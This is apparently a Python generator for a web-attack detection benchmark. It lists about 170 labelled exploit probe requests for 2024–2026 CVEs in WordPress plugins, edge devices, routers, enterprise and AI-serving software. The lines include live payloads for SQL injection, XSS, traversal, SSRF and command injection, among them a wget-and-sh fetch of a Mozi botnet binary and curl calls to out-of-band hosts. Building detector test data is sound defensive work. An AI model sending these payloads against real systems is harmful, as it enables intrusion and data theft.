#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log and benign.labels of
# tests/bench/data/thirdparty10 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
#
# Angle of this set: exploit probes for web CVEs disclosed 2024-2026 (many in CISA KEV
# or mass-scanned), none of them a CVE id that an earlier set under tests/bench/data
# already has, at most two CVEs per product; plus about 50 generic-technique requests in
# evasive encodings (double URL-encoding, IIS %u, mixed case), half of them with the
# payload in the User-Agent or Referer.  One request per attacking source.
import datetime, os, random, urllib.parse

OUT = os.path.dirname(os.path.abspath(__file__))
SEED = 20260204
DAY = datetime.datetime(2026, 2, 4, 0, 0, 0)

# ----------------------------------------------------------------- user agents
# Browser releases current in early February 2026: Chrome/Edge 143-144, Firefox 146-147,
# Safari 26.2 (iOS keeps reporting "OS 18_7" since Safari 26), Samsung Internet 29.
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'chw3': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffw6': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:147.0) Gecko/20100101 Firefox/147.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Edg/144.0.0.0",
 'edg3': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Mobile/15E148 Safari/604.1",
 'ipad': "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Mobile Safari/537.36",
 'sam': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36",
}
BROWSERS = ['chw', 'chw', 'chw', 'chw3', 'chm', 'chm', 'chl', 'ffw', 'ffw', 'ffw6', 'ffl', 'ffm',
            'sfm', 'sfm', 'edg', 'edg3', 'ios', 'ios', 'ipad', 'and', 'and', 'sam']

def q(s):
    """every reserved character percent-encoded"""
    return urllib.parse.quote(s, safe='')

def ip_int(a):
    return sum(int(x) << (8 * (3 - i)) for i, x in enumerate(a.split('.')))

# Out-of-band hosts as nuclei/interactsh and exploit scripts leave them; attacker
# addresses in 198.18.0.0/15.
OOB = ['d5q1m7c2vtc0000h3k6gg8e4x1b.oast.pro', 'd5q2n0k6dtc0000qg3v0gjyb7wa.oast.fun',
       'd5q3b9s1ptc00007f2s0gk3w5hc.oast.me', 'd5q4r2a8jtc0000m1n8ggnq9e6y.oast.live',
       'cb7x2.callback.example']
EVIL = 'evil.example'

NT = 'nuclei-templates http/cves/%s/%s.yaml [read in stored copy rxerium/nuclei-templates@a64f60eb, fork of projectdiscovery/nuclei-templates]'
E = []
PRODUCTS = {}

def C(cve, product, cls, method, target, status, source=None, ref=None, note=''):
    """a CVE probe; source defaults to the nuclei template of that id"""
    assert ' ' not in target and '\n' not in target, target
    assert method in ('GET', 'POST')
    if source is None:
        source = NT % (cve.split('-')[1], cve)
    if note:
        source += '; ' + note
    PRODUCTS.setdefault(product, []).append(cve)
    E.append(dict(cat='cve', tech=cve, cls=cls, product=product, method=method, target=target,
                  status=status, source=source, place='query', ua=None, ref=ref))

def G(cat, tech, target, status, source, place='query', ua=None, ref=None, method='GET'):
    """a generic-technique request"""
    assert ' ' not in target and '\n' not in target, target
    assert place in ('query', 'path', 'ua', 'referer')
    assert (place == 'ua') == (ua is not None)
    if place == 'referer':
        assert ref is not None
    E.append(dict(cat=cat, tech=tech if place == 'query' else tech + '@' + place, cls=cat, product='-',
                  method=method, target=target, status=status, source=source, place=place, ua=ua, ref=ref))

X = '<script>alert(document.domain)</script>'
PASSWD = '/etc/passwd'

# ================================================================= CVE probes, 2024
# --- WordPress plugins and themes
C('CVE-2024-0235', 'EventON (WordPress)', 'info-disclosure', 'GET', '/wp-admin/admin-ajax.php?action=eventon_get_virtual_users', 200)
C('CVE-2024-0337', 'Travelpayouts (WordPress)', 'open-redirect', 'GET', '/?travelpayouts_redirect=https://' + EVIL + '/', 302)
C('CVE-2024-10571', 'Chartify (WordPress)', 'lfi', 'POST', '/wp-admin/admin-ajax.php?action=add&source=../../../../../../../../../../wp-content/plugins/chart-builder/uninstall&type=chart-js', 200)
C('CVE-2024-11740', 'WordPress Download Manager', 'shortcode-injection', 'GET', '/?__wpdmxp=%27][/wpdm_package][wpdm_all_packages][wpdm_package%20id=%27', 200)
C('CVE-2024-13726', 'Themes Coder Ecommerce (WordPress)', 'sqli', 'GET', '/mobile-checkout/?order_id=(select*from(select(sleep(6)))a)', 200)
C('CVE-2024-35694', 'WPMobile.App (WordPress)', 'xss', 'GET', '/?wpapp_shortcode=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E&wpappninja_simul4=1', 200)
C('CVE-2024-1512', 'MasterStudy LMS (WordPress)', 'sqli', 'GET', '/?rest_route=/lms/stm-lms/order/items&author_id=1&user=1)+AND+%28SELECT+3493+FROM+%28SELECT%28SLEEP%286%29%29%29sauT%29+AND+%283071%3D3071', 200)
C('CVE-2025-2636', 'InstaWP Connect (WordPress)', 'lfi', 'GET', '/?instawp-database-manager=/../../../%2e%2fmigrate%2ftemplates%2fdebug%2fdb-table&table_name=wp_users--%20-', 200)
C('CVE-2024-29137', 'Tourfic (WordPress)', 'xss', 'GET', '/?page_id=6&type=tf_hotel&place=%22%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E&adults=2&children=1&room=1', 200)
C('CVE-2024-33575', 'User Meta (WordPress)', 'info-disclosure', 'GET', '/wp-content/plugins/user-meta/views/debug.php', 200)
C('CVE-2024-3469', 'GP Premium (WordPress)', 'xss', 'GET', '/wp-admin/admin.php?page=generate-options&sl_activation=false&message=%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E', 302)
C('CVE-2024-39646', 'Custom 404 Pro (WordPress)', 'xss', 'GET', '/wp-admin/admin.php?page=c4p-main&c4pmessage=hello&c4pmessageType=%22%20onmouseover%3Dalert(1)%20', 302)
C('CVE-2024-43917', 'TI WooCommerce Wishlist (WordPress)', 'sqli', 'GET', '/wp-json/wc/v3/wishlist/8f3a2c/get_products?order=,(select*from(select(sleep(6)))a)--+-', 200)
C('CVE-2024-4434', 'LearnPress (WordPress)', 'sqli', 'POST', '/wp-json/lp/v1/courses/archive-course?term_id=17)+OR+SLEEP(6)+--+A', 200)
C('CVE-2024-4455', 'YITH WooCommerce Ajax Search (WordPress)', 'xss', 'GET', '/?rest_route=/ywcas/v1/register&queryString=<script>alert(document.domain)</script>&totalResults=0', 200)
C('CVE-2024-5057', 'Easy Digital Downloads (WordPress)', 'sqli', 'GET', "/wp-admin/admin-ajax.php?action=edd_download_search&s=a')/**/AND/**/SLEEP(6)%23", 200)
C('CVE-2024-5084', 'Hash Form (WordPress)', 'file-upload', 'POST', '/wp-admin/admin-ajax.php?action=hashform_file_upload_action&file_uploader_nonce=4f6a1c9e2b&allowedExtensions%5B0%5D=php&sizeLimit=1048576&qqfile=wp-lo9n.php', 200)
C('CVE-2024-6205', 'PayPlus Payment Gateway (WordPress)', 'sqli', 'GET', '/?wc-api=payplus_gateway&status_code=true&more_info=(select*from(select(sleep(6)))a)', 200)
C('CVE-2024-6690', 'WP Content Copy Protection (WordPress)', 'open-redirect', 'GET', '/wp-content/plugins/wccp-pro/no-js.php?referrer=https://' + EVIL, 302)
C('CVE-2024-8852', 'All-in-One WP Migration (WordPress)', 'info-disclosure', 'GET', '/wp-content/plugins/all-in-one-wp-migration/storage/error.log', 200)
C('CVE-2024-9193', 'WHMpress (WordPress)', 'lfi-rce', 'POST', '/wp-admin/admin-ajax.php?+config-create+/&/<?=base64_decode($_GET[0])?>+/tmp/k3f9x.php', 400)
C('CVE-2024-9935', 'PDF Generator Addon for Elementor (WordPress)', 'lfi', 'GET', '/elementor-84/?rtw_generate_pdf=true&rtw_pdf_file=..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd', 200)
# --- other CMS, forums, e-commerce
C('CVE-2024-21641', 'Flarum', 'open-redirect', 'GET', '/logout?return=http://' + EVIL, 302)
C('CVE-2024-11587', 'idcCMS', 'xss', 'GET', '/read.php?idName=1%3Cscript%3Ealert(document.domain)%3C/script%3E&mudi=getCityData', 200)
C('CVE-2024-4348', 'osCommerce', 'xss', 'GET', "/catalog/all-products?cat=1&bhl4n%2522%253e%253cScRiPt%253ealert%2528'document_domain'%2529%253c%252fScRiPt%253eiyehb=1", 200)
C('CVE-2024-8517', 'SPIP BigUp', 'rce', 'POST', '/spip.ph%70?pag%65=spip_pass&lang=fr', 200)
C('CVE-2024-50340', 'Symfony', 'argv-injection', 'GET', '/?+--env=dev', 200)
C('CVE-2024-48914', 'Vendure', 'traversal', 'GET', '/assets/../package.json', 200)
C('CVE-2024-7188', 'Bylancer Quicklancer', 'sqli', 'GET', '/listing?cat=6&filter=1&job-type=1&keywords=Mr.&location=1&order=desc&placeid=US&placetype=country&range1=1&range2=1)%20AND%20(SELECT%201864%20FROM%20(SELECT(SLEEP(6)))gOGh)%20AND%20(6900=6900&salary-type=1&sort=id&subcat=', 200)
C('CVE-2024-24112', 'Exrick XMall', 'sqli', 'GET', '/item/list?draw=1&order%5B0%5D%5Bcolumn%5D=1&order%5B0%5D%5Bdir%5D=desc)a+union+select+updatexml(1,concat(0x7e,md5(31337),0x7e),1)%23;&start=0&length=1&search%5Bvalue%5D=&search%5Bregex%5D=false&cid=-1&_=1', 500)
# --- edge devices, VPN, network management
C('CVE-2024-6235', 'Citrix NetScaler Console', 'info-disclosure', 'GET', '/internal/v2/config/mps_secret/ADM_SESSIONID', 200)
C('CVE-2024-20419', 'Cisco Smart Software Manager On-Prem', 'account-takeover', 'GET', '/backend/settings/oauth_adfs?hostname=polar', 200)
C('CVE-2024-6670', 'Progress WhatsUp Gold', 'sqli', 'POST', '/NmConsole/Platform/PerformanceMonitorErrors/HasErrors', 200)
C('CVE-2024-35286', 'Mitel MiCollab', 'sqli', 'POST', '/npm-pwg/..;/npm-admin/login.do', 200)
C('CVE-2024-55550', 'Mitel MiCollab', 'file-read', 'POST', '/npm-pwg/..;/ReconcileWizard/reconcilewizard/sc/IDACall?isc_rpc=1&isc_v=&isc_tnum=2', 200)
C('CVE-2024-38289', 'RHUB TurboMeeting', 'sqli', 'POST', '/as/wapi/vmp', 200)
C('CVE-2024-13159', 'Ivanti Endpoint Manager', 'credential-coercion', 'POST', '/WSVulnerabilityCore/VulCore.asmx', 200)
C('CVE-2024-7097', 'WSO2 API Manager / Identity Server', 'account-creation', 'POST', '/services/UserRegistrationAdminService.UserRegistrationAdminServiceHttpsSoap11Endpoint/', 200)
C('CVE-2025-5605', 'WSO2 API Manager / Identity Server', 'auth-bypass', 'GET', '/carbon/server-admin/memory_info.jsp;.jar', 200)
C('CVE-2024-0692', 'SolarWinds Security Event Manager', 'deserialization', 'POST', '/services/messagebroker/streamingamf', 200)
C('CVE-2024-22319', 'IBM Operational Decision Manager', 'jndi-injection', 'GET', '/decisioncenter-api/v1/about?datasource=ldap://' + OOB[1] + '/a', 500)
C('CVE-2024-5217', 'ServiceNow', 'template-injection', 'GET', '/login.do?jvar_page_title=%3Cstyle%3E%3Cj%3Ajelly%2Bxmlns%3Aj%3D%22jelly%3Acore%22%2Bxmlns%3Ag%3D%27glide%27%3E%3Cg%3Aevaluate%3Ez%3Dnew%2BPackages.java.io.File(%22%22).getAbsolutePath()%3Bz%3Dz.substring(0%2Cz.lastIndexOf(%22%2F%22))%3Bz%3Dnew%2BPackages.java.io.File(z%2B%22%2Fconfig%2Fglide.db.properties%22)%3Bz%3Dnew%2BPackages.java.util.Scanner(z).useDelimiter(%22%5C%5CA%22).next()%3Bz%3Dz.replace(%27%5C%5Cn%27%2C%27%3Cbr%2F%3E%27)%3B%3C%2Fg%3Aevaluate%3E%24%7Bz%7D%3C%2Fj%3Ajelly%3E%3C%2Fstyle%3E', 200)
C('CVE-2025-9316', 'N-able N-central', 'auth-bypass', 'POST', '/dms/services/ServerUI', 200)
# --- routers, NAS, IoT, cameras, printers
C('CVE-2024-10915', 'D-Link DNS NAS', 'cmdi', 'GET', "/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&group=%27;id;%27", 200)
C('CVE-2024-3272', 'D-Link DNS NAS', 'backdoor-account', 'GET', '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=', 200)
C('CVE-2024-33113', 'D-Link DIR-845L', 'info-disclosure', 'GET', '/getcfg.php?a=%0A_POST_SERVICES=DEVICE.ACCOUNT%0AAUTHORIZED_GROUP=1', 200)
C('CVE-2024-22729', 'Netis routers', 'cmdi', 'POST', '/cgi-bin/skk_set.cgi', 200)
C('CVE-2024-48455', 'Netis routers', 'info-disclosure', 'POST', '/cgi-bin/skk_get.cgi', 200)
C('CVE-2024-30568', 'Netgear R6850', 'cmdi', 'POST', '/setup.cgi?id=0&sp=1337', 200)
C('CVE-2024-12847', 'Netgear DGN1000', 'cmdi', 'GET', '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.18.44.17:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1', 200,
  source='VulnCheck advisory for CVE-2024-12847 (NETGEAR DGN1000 setup.cgi syscmd, EDB-25978) and the Mozi botnet request seen in the wild')
C('CVE-2024-3080', 'ASUS routers', 'auth-bypass', 'GET', '/js/..%2f%2f/wizard.htm', 200)
C('CVE-2024-57514', 'TP-Link Archer', 'xss', 'GET', '/<style%20onload=alert`document.domain`;>../..%2f', 404)
C('CVE-2024-7332', 'TOTOLINK', 'hardcoded-password', 'GET', '/web_cste/cgi-bin/product.ini', 200)
C('CVE-2024-24329', 'TOTOLINK', 'cmdi', 'POST', '/cgi-bin/cstecgi.cgi?token=C6F41C563E86A379', 200)
C('CVE-2024-54763', 'ipTIME routers', 'unauth-access', 'GET', '/login/hostinfo.cgi', 200)
C('CVE-2024-51978', 'Brother printers', 'default-password', 'GET', '/etc/mnt_info.csv', 200)
C('CVE-2024-7339', 'TVT DVR', 'info-disclosure', 'POST', '/queryDevInfo', 200)
C('CVE-2024-25735', 'WyreStorm Apollo VX20', 'info-disclosure', 'GET', '/device/config', 200)
C('CVE-2024-32736', 'CyberPower PowerPanel Enterprise', 'sqli', 'GET', "/api/v1/confup?mode=&uid=1'%20UNION%20select%201,2,3,4,sqlite_version();--", 200)
C('CVE-2024-31750', 'F-logic DataCube3', 'sqli', 'POST', '/admin/pr_monitor/getting_index_data.php', 200)
C('CVE-2024-11305', 'Altenergy Power Control Software', 'sqli', 'POST', '/index.php/display/status_zigbee', 200)
C('CVE-2024-0305', 'Ncast', 'rce', 'POST', '/classes/common/busiFacade.php', 200)
C('CVE-2024-9166', 'TitanNit Web Control (Atemio)', 'rce', 'GET', '/query?getcommand=&cmd=curl+http://' + OOB[2], 200)
C('CVE-2024-8752', 'Smart HMI WebIQ', 'traversal', 'GET', '/.webui/..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini', 200)
C('CVE-2024-6049', 'Lawo vTimeSync', 'traversal', 'GET', '/.../.../.../.../.../.../.../.../.../Windows/win.ini', 200)
# --- enterprise apps, ERP, healthcare
C('CVE-2024-21136', 'Oracle Retail Xstore', 'traversal', 'GET', '/xstoremgwt/cheetahImages?imageId=..\\..\\..\\..\\windows\\win.ini', 200)
C('CVE-2024-21683', 'Atlassian Confluence', 'rce', 'POST', '/admin/plugins/newcode/addlanguage.action', 200)
C('CVE-2024-11238', 'Landray EKP', 'traversal', 'GET', '/sys/ui/sys_ui_component/sysUiComponent.do?method=delPreviewFile&directoryPath=../b9d1c/', 200)
C('CVE-2024-13979', 'St. Joe ERP', 'sqli', 'POST', '/erp/dwr/call/plaincall/SingleRowQueryConvertor.queryForString.dwr', 200)
C('CVE-2024-2330', 'NS-ASG Application Security Gateway', 'sqli', 'POST', '/protocol/index.php', 200)
C('CVE-2024-44849', 'Qualitor', 'rce', 'POST', '/html/ad/adfilestorage/request/checkAcesso.php', 200)
C('CVE-2024-48360', 'Qualitor', 'ssrf', 'GET', '/html/ad/adformmobile/request/viewValidacao.php?url=' + OOB[3], 200)
C('CVE-2024-4257', 'BlueNet Clinical Browsing System', 'sqli', 'GET', '/xds/deleteStudy.php?documentUniqueId=1%27;WAITFOR%20DELAY%20%270:0:6%27--', 200)
C('CVE-2024-6911', 'PerkinElmer ProcessPlus', 'lfi', 'GET', '/ProcessPlus/Log/Download/?filename=..\\..\\..\\..\\..\\..\\Windows\\win.ini', 200)
C('CVE-2024-51211', 'openSIS', 'sqli', 'GET', '/ResetUserInfo.php?user_type_form=username&uname_user_type=uname_student&username_stn_id=21+OR+3720%3dBENCHMARK(7000000,MD5(0x6e48446e))&pass=1&month_username_dob=x&day_username_dob=x&year_username_dob=x', 200)
C('CVE-2024-8503', 'VICIdial', 'sqli', 'GET', '/VERM/VERM_AJAX_functions.php?function=log_custom_report', 200,
  note='the injection is in the HTTP Basic credentials (Authorization header), which the log does not keep')
C('CVE-2024-33326', 'Lumis Experience Platform', 'xss', 'GET', '/XsltResultControllerHtml.jsp?xslContent=&interfaceInstanceId=&lumPageId=<script>confirm(document.domain)</script>&xslContentFilePath=', 200)
C('CVE-2024-42852', 'AcuToWeb', 'xss', 'GET', '/?portgw=80089948;%20alert(document.domain)', 200)
C('CVE-2024-52762', 'Ganglia Web', 'xss', 'GET', '/ganglia/?tz=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E', 200)
C('CVE-2024-32399', 'RaidenMAILD', 'traversal', 'GET', '/webeditor/../../../windows/win.ini', 200)
C('CVE-2024-51482', 'ZoneMinder', 'sqli', 'GET', '/zm/index.php?view=request&request=event&action=removetag&tid=1+AND+(SELECT+6435+FROM+(SELECT(SLEEP(7)))AbUy)', 200)
C('CVE-2024-46506', 'NetAlertX', 'rce', 'POST', '/php/server/util.php', 200)
C('CVE-2024-48307', 'JeecgBoot', 'sqli', 'POST', '/jeecg-boot/drag/onlDragDatasetHead/getTotalData', 200)
C('CVE-2024-7314', 'AJ-Report', 'rce', 'POST', '/dataSetParam/verification;swagger-ui/', 200)
C('CVE-2024-9916', 'HuangDou UTCMS', 'cmdi', 'POST', '/app/modules/ut-cac/admin/cli.php', 200)
C('CVE-2024-55415', 'DevDojo Voyager', 'file-read', 'GET', '/admin/compass?download=L2V0Yy9wYXNzd2Q=', 302)
C('CVE-2024-30269', 'DataEase', 'info-disclosure', 'GET', '/de2api/engine/getEngine;.js', 200)
C('CVE-2024-56325', 'Apache Pinot', 'auth-bypass', 'GET', '/users;.', 200)
C('CVE-2024-45507', 'Apache OFBiz', 'rce', 'POST', '/webtools/control/view/StatsSinceStart', 200)
C('CVE-2024-36404', 'GeoServer / GeoTools', 'rce', 'POST', '/geoserver/wfs?service=WFS', 200)
C('CVE-2024-38473', 'Apache HTTP Server', 'acl-bypass', 'GET', '/admin.php%3ftest.php', 200)
C('CVE-2024-45309', 'OneDev', 'traversal', 'GET', '/demo/~site////////%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 200)
C('CVE-2024-36117', 'Reposilite', 'traversal', 'GET', '/javadoc/releases/javadoc/1.0.0/raw/..%5c..%2f..%2f..%2f..%2f..%2freposilite.db', 200)
C('CVE-2024-23917', 'JetBrains TeamCity', 'auth-bypass', 'POST', '/app/rest/users/id:1/tokens/Xq7rLp2c;.jsp?jsp_precompile=true', 200)
C('CVE-2024-55956', 'Cleo Harmony/VLTrader/LexiCom', 'file-upload', 'POST', '/Synchronization', 200)
C('CVE-2025-55190', 'Argo CD', 'credential-exposure', 'GET', '/api/v1/projects/default/detailed', 200)
C('CVE-2024-24763', 'JumpServer', 'open-redirect', 'POST', '/core/auth/login/?next=//' + EVIL, 302)
C('CVE-2024-8883', 'Keycloak', 'open-redirect', 'GET', '/realms/master/protocol/openid-connect/auth?client_id=account-console&redirect_uri=http://localhost:80@' + EVIL + '/realms/master/account/&response_type=code&scope=openid', 302)
C('CVE-2024-28397', 'pyLoad', 'rce', 'POST', '/flash/addcrypted2', 200)
# --- AI / LLM serving and ML-ops
C('CVE-2024-1728', 'Gradio', 'lfi', 'GET', '/file=/tmp/gradio/2b7d3e8f6a1c/passwd', 200)
C('CVE-2024-8021', 'Gradio', 'open-redirect', 'GET', '/file=http%3A%2F%2F' + EVIL + '/', 302)
C('CVE-2024-2928', 'MLflow', 'lfi', 'GET', '/model-versions/get-artifact?path=passwd&name=k7yq2&version=1', 200)
C('CVE-2024-27564', 'ChatGPT (dirk1983 pictureproxy)', 'ssrf', 'GET', '/pictureproxy.php?url=file:///etc/passwd', 200)
C('CVE-2024-38514', 'NextChat', 'ssrf', 'GET', '/api/webdav/chatgpt-next-web/backup.json?endpoint=https://webdav.yandex.com.' + OOB[0] + '/', 200)
C('CVE-2024-3234', 'Chuanhu Chat', 'traversal', 'GET', '/file=web_assets/../config.json', 200)
C('CVE-2024-10812', 'GPT Academic', 'open-redirect', 'GET', '/file=https://' + EVIL, 302)
C('CVE-2024-5334', 'Devika', 'lfi', 'GET', '/api/get-browser-snapshot?snapshot_path=/etc/passwd', 200)
C('CVE-2024-5827', 'Vanna', 'sqli', 'GET', '/api/v0/generate_sql?question=What%20is%20the%20content%20of%20the%20first%201000%20characters%20of%20the%20%2Fetc%2Fpasswd%20file?', 200)
C('CVE-2024-6250', 'LoLLMS WebUI', 'traversal', 'POST', '/api/open_file', 200)
C('CVE-2024-6587', 'LiteLLM', 'ssrf', 'POST', '/chat/completions', 200)
C('CVE-2024-7340', 'W&B Weave', 'file-read', 'GET', '/__weave/file/tmp/weave/fs/../../../etc/passwd', 200)
C('CVE-2024-36858', 'Jan', 'file-write', 'POST', '/v1/app/writeFileSync', 200)
C('CVE-2024-39903', 'Solara', 'lfi', 'GET', '/static/nbextensions/#/../../../../../../../../../../etc/passwd', 200)
C('CVE-2024-9264', 'Grafana', 'sqli', 'POST', '/api/ds/query?ds_type=__expr__&expression=true&requestId=Q101', 200)
C('CVE-2025-6197', 'Grafana', 'open-redirect', 'GET', '/%2f%5c' + EVIL + '?orgId=1', 302)
C('CVE-2024-29028', 'Memos', 'ssrf', 'GET', '/o/get/httpmeta?url=http://169.254.169.254/latest/meta-data/', 200)
C('CVE-2024-47062', 'Navidrome', 'sqli', 'GET', "/api/album?_end=36&_order=DESC&_sort=recently_added&_start=0&1+like+1)+union+select+1,2,3,4,5,6,7,8,9,10,11,12,13,(select+group_concat(concat(user_name,':',password))from+user),15,16,17,18,19,20,21,22,23,24,25,26,27,28,29--", 200)
C('CVE-2025-27112', 'Navidrome', 'auth-bypass', 'GET', '/rest/getPlaylists?u=FakeUser&t=21232f297a57a5a743894a0e4a801fc3&s=admin&v=1.16.1&c=castafiore&f=json', 200)
C('CVE-2024-35219', 'OpenAPI Generator', 'file-read', 'POST', '/api/gen/clients/csharp', 200)

# ================================================================= CVE probes, 2025-2026
# --- WordPress
C('CVE-2025-11749', 'AI Engine (WordPress)', 'token-exposure', 'GET', '/wp-json/mcp/v1', 200)
C('CVE-2025-11833', 'Post SMTP (WordPress)', 'info-disclosure', 'POST', '/wp-login.php?action=lostpassword&page=postman_email_log&view=log&log_id=3', 200)
C('CVE-2025-2011', 'Depicter (WordPress)', 'sqli', 'GET', "/wp-admin/admin-ajax.php?s=9999')union+select+111,222,(select(concat(0x44617461626173653a20,database()))),4444,+5--+-&perpage=20&page=1&orderBy=source_id&dateEnd=&dateStart=&order=DESC&sources=&action=depicter-lead-index", 200)
C('CVE-2025-4322', 'Motors theme (WordPress)', 'privilege-escalation', 'POST', '/login-register/?user_id=1&hash_check=%25C0', 200)
C('CVE-2025-4396', 'Relevanssi (WordPress)', 'sqli', 'GET', '/?s=gq7tb&cats=1*sleep(5)', 200)
C('CVE-2025-47445', 'Eventin (WordPress)', 'file-download', 'POST', '/wp-admin/admin-ajax.php?action=proxy_image&url=/etc/passwd', 400)
C('CVE-2025-34085', 'Simple File List (WordPress)', 'file-upload', 'POST', '/wp-content/plugins/simple-file-list/ee-upload-engine.php', 200)
C('CVE-2025-6174', 'Qwizcards (WordPress)', 'xss', 'GET', "/wp-content/plugins/qwiz-online-quizzes-and-flashcards/qwiz_admin_sample_buttons.php?theme_stylesheet=%22%3E%3Cscript%3Ealert('t7xq2')%3C/script%3E", 200)
C('CVE-2025-9985', 'Featured Image from URL (WordPress)', 'info-disclosure', 'GET', '/wp-content/uploads/fifu-plugin.log', 200)
C('CVE-2026-23550', 'Modular DS (WordPress)', 'auth-bypass', 'GET', '/api/modular-connector/login/x9f2?origin=mo&type=foo', 302)
# --- edge, VPN, file transfer, backup, monitoring, ITSM
C('CVE-2025-52970', 'Fortinet FortiWeb', 'auth-bypass', 'GET', '/api/fabric/device/status', 200,
  note='the forged session is in the Cookie header')
C('CVE-2025-25231', 'Omnissa Workspace ONE UEM', 'traversal', 'GET', '/DevicesGateway/apps/system-app-metadata/1?packageId=../../../../API/system/groups/apikeys%3fogname=Global', 200)
C('CVE-2025-30406', 'Gladinet CentreStack', 'deserialization', 'POST', '/portal/loginpage.aspx', 200)
C('CVE-2025-47812', 'Wing FTP Server', 'rce', 'POST', '/loginok.html', 200)
C('CVE-2025-34299', 'Monsta FTP', 'rce', 'POST', '/mftp/application/api/api.php', 200)
C('CVE-2025-57788', 'Commvault Command Center', 'credential-disclosure', 'GET', '/commandcenter/publicLink.do', 200)
C('CVE-2025-2777', 'SysAid On-Prem', 'xxe', 'POST', '/lshw?osVer=a&osCode=b&osKernel=c&agentVersion=e&serial=f', 200)
C('CVE-2025-32813', 'Infoblox NetMRI', 'cmdi', 'GET', '/webui/application/get_saml_request?saml_id=1%26$(id|%20base64);', 200)
C('CVE-2025-32814', 'Infoblox NetMRI', 'sqli', 'GET', '/netmri/config/userAdmin/login.tdf?skipjackUsername=admin%22+AND+updatexml(rand(),concat(CHAR(126),NetmriDecrypt((select%20PasswordSecure%20from%20skipjack.ACLUser%20where%20UserName=%22admin%22),%22password%22,1),CHAR(126)),null)--+&skipjackPassword=x', 500)
C('CVE-2025-36604', 'Dell UnityVSA', 'cmdi', 'GET', '/misc/`curl${IFS}' + OOB[3] + '`/..;/index.html', 404)
C('CVE-2025-4009', 'Evertz SDVN', 'cmdi', 'GET', '/v.1.5/php/features/feature-transfer-export.php?action=id;&filename=&varid=&slot=', 200)
C('CVE-2025-53771', 'Microsoft SharePoint Server', 'auth-bypass', 'POST', '/_layouts/15/ToolPane.aspx/?DisplayMode=Edit&a=/ToolPane.aspx', 200,
  ref='/_layouts/SignOut.aspx', note='Referer /_layouts/SignOut.aspx as in the ToolShell exploit')
C('CVE-2025-59287', 'Windows Server Update Services', 'deserialization', 'POST', '/ReportingWebService/ReportingWebService.asmx', 200)
C('CVE-2025-53690', 'Sitecore XM/XP', 'deserialization', 'POST', '/sitecore/blocked.aspx', 200,
  source='Mandiant/Google Threat Intelligence "ViewState deserialization zero-day in Sitecore" (Sept 2025): __VIEWSTATE POSTed to /sitecore/blocked.aspx; CISA KEV [written from recollection]')
C('CVE-2025-2746', 'Kentico Xperience', 'auth-bypass', 'POST', '/CMSPages/Staging/SyncServer.asmx', 200)
C('CVE-2025-2748', 'Kentico Xperience', 'xss', 'POST', '/CMSModules/Content/CMSPages/MultiFileUploader.ashx?Filename=q3v8d.zip&Complete=false', 200)
C('CVE-2025-52488', 'DNN (DotNetNuke)', 'ntlm-leak', 'POST', '/Providers/HtmlEditorProviders/DNNConnect.CKE/Browser/FileUploader.ashx?PortalID=0&storageFolderID=1&overrideFiles=false', 200)
C('CVE-2025-54236', 'Adobe Commerce / Magento', 'session-reaper', 'POST', '/customer/address_file/upload', 200)
C('CVE-2025-54249', 'Adobe Experience Manager', 'ssrf', 'POST', "/services/accesstoken/verify;x='.pdf/x'", 200)
